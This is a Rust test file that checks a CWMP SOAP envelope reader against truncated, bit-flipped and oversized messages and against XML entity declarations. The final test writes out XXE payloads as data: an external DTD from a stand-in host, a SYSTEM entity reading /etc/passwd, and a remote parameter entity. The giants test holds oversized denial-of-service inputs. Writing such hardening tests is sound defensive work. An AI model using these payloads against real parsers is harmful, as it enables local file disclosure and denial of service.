//! Messages nobody sends by accident: giants, and every way a good message can be cut or bent.

use cwmp::envelope::{self, Unreadable};
use cwmp::limits;
use cwmp::message::{FromAcs, FromCpe};
use soap_fixtures::{Side, messages};
use std::fmt::Write as _;

fn read(side: Side, bytes: &[u8]) -> Result<(), Unreadable> {
    match side {
        Side::Cpe => envelope::read::<FromCpe>(bytes).map(|_| ()),
        Side::Acs => envelope::read::<FromAcs>(bytes).map(|_| ()),
    }
}

fn in_body(content: &str) -> String {
    format!(
        "<e:Envelope xmlns:e=\"http://schemas.xmlsoap.org/soap/envelope/\" \
         xmlns:cwmp=\"urn:dslforum-org:cwmp-1-0\"><e:Body>{content}</e:Body></e:Envelope>"
    )
}

/// Covers X16.
#[test]
fn no_prefix_of_a_message_is_a_message() {
    let good: Vec<_> = messages()
        .into_iter()
        .filter(|message| message.expect.is_none())
        .collect();
    assert!(good.len() >= 40);
    let mut inputs = 0;
    for message in good
        .iter()
        .filter(|message| message.bytes.len() < 6000)
        .take(80)
    {
        // What follows the envelope's end is not looked at, so only cuts in front of it must fail.
        let closing = b"Envelope";
        let end = message
            .bytes
            .windows(closing.len())
            .rposition(|window| window == closing);
        for cut in 0..end.unwrap_or(0) {
            let refused = read(message.from(), &message.bytes[..cut]);
            assert!(
                matches!(refused, Err(Unreadable::Document(_))),
                "{} cut at {cut}",
                message.label()
            );
            inputs += 1;
        }
    }
    assert!(inputs > 50_000, "{inputs}");
}

/// Covers X17.
#[test]
fn no_changed_byte_makes_the_reader_stumble() {
    let mut random = 1u64;
    for message in messages() {
        for _ in 0..200 {
            random = random
                .wrapping_mul(6_364_136_223_846_793_005)
                .wrapping_add(1_442_695_040_888_963_407);
            let mut bytes = message.bytes.clone();
            if bytes.is_empty() {
                continue;
            }
            let at = (random >> 33) as usize % bytes.len();
            bytes[at] ^= 1 << ((random >> 20) % 8);
            // Whatever it means now, reading it ends with a value or an error.
            let _ = read(message.from(), &bytes);
        }
    }
}

/// Covers X06, X07, X08, X18.
#[test]
fn giants_are_refused_before_they_cost_anything() {
    let mut attributes = String::from("<cwmp:Inform");
    for number in 0..200_000 {
        let _ = write!(attributes, " a{number}=\"\"");
    }
    attributes.push_str("/>");
    let giants = [
        "<Envelope>".repeat(100_000),
        in_body(&format!("<cwmp:Inform>{}", "<a>".repeat(1_000_000))),
        in_body(&attributes),
        in_body(&format!("<{0}/>", "n".repeat(1_000_000))),
        in_body(&format!("<cwmp:{}x/>", "a:".repeat(10_000))),
        in_body(&format!(
            "<cwmp:Kicked><Command>{}</Command></cwmp:Kicked>",
            "x".repeat(50_000_000)
        )),
        in_body(&format!(
            "<cwmp:Kicked><Command>{}</Command></cwmp:Kicked>",
            "&amp;".repeat(500_000)
        )),
        in_body(&format!(
            "<cwmp:GetRPCMethodsResponse><MethodList>{}</MethodList></cwmp:GetRPCMethodsResponse>",
            "<string/>".repeat(limits::LIST_ITEMS + 1)
        )),
    ];
    for (number, giant) in giants.iter().enumerate() {
        match read(Side::Cpe, giant.as_bytes()) {
            Err(Unreadable::Document(error)) => {
                assert!(error.kind.is_limit(), "giant {number}: {error}");
            }
            // Half a million entities fit into the limit of a text.
            Ok(()) => assert_eq!(number, 6),
            Err(other) => panic!("giant {number}: {other}"),
        }
    }
}

/// Covers X01, X02, X03, X04.
#[test]
fn no_entity_is_ever_declared_or_fetched() {
    let declarations = [
        "<!DOCTYPE x SYSTEM \"http://192.0.2.1/evil.dtd\">".to_owned(),
        "<!DOCTYPE x [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>".to_owned(),
        "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://192.0.2.1/p\">%p;]>".to_owned(),
        format!("<!DOCTYPE x [<!ENTITY a \"{}\">]>", "a".repeat(100_000)),
    ];
    for declaration in declarations {
        let document = format!(
            "{declaration}{}",
            in_body("<cwmp:Kicked><Command>&x;</Command></cwmp:Kicked>")
        );
        let refused = read(Side::Cpe, document.as_bytes()).unwrap_err();
        let Unreadable::Document(error) = refused else {
            panic!("{refused}")
        };
        assert_eq!(error.kind, cwmp::xml::XmlErrorKind::Doctype);
    }
}
